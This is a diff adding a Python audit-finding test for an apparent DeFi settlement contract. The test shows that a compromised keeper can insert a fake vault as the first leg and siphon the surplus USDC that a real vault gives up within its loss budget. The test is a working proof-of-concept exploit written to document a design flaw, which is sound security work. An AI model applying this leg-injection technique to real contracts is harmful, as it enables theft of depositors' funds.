@@ -308,3 +308,30 @@ def test_reverted_vault_error_reaches_the_keeper(
             {"from": keeper.address, "to": world.settlement.address, "data": calldata}
         )
     assert info.value.data == "0x" + expected.hex()
+
+
+def test_finding_fake_leg_collects_the_leftover_a_real_vault_gave_up(
+    world: World, vaults: tuple[Any, Any, Any], keeper: Any, deployer: Any, project: Any
+) -> None:
+    """Audit finding (design): the settlement accepts any contract as a leg. A compromised
+    keeper lists a FakeVault as leg 0 "selling" 1 wei: it is then the first leg paid in USDC and
+    takes everything left after the real vault was paid its oracle bound. The real vault's loss
+    (up to its loss budget per window) is paid straight to an address the keeper controls:
+    no pool, no sandwich, no market risk."""
+    calls = vaults[0]
+    fake = deployer.deploy(project.FakeVault, world.usdc, world.weth, False)
+    loss_left = int(calls.getState().lossAvailable)
+    amount = 2 * WAD
+    quoted = quote_sell(world, amount)
+    # the real vault is paid the least it accepts: its oracle bound, or what its loss budget allows
+    payout = max(oracle_bound(amount), oracle_value(amount) - loss_left)
+    assert quoted > payout
+    legs = [
+        (fake, (True, 1, 0, 0, deadline()), 0),
+        (calls, trade(calls, True, amount), payout),
+    ]
+    before = int(world.usdc.balanceOf(fake))
+    world.settlement.settle(legs, net_sell(world, amount, quoted), sender=keeper)
+    stolen = int(world.usdc.balanceOf(fake)) - before
+    print(f"\nfake leg collected {stolen} USDC units; vault loss budget was {loss_left}")
+    assert stolen == quoted - payout > 0
